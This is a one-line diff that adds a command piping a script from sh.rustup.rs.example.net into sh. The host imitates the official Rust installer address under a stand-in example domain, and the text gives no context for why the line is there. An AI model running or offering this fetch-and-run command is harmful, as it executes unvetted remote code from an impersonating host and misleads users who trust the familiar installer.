@@ -1,0 +1,1 @@
+curl -fsSL https://sh.rustup.rs.example.net/install | sh
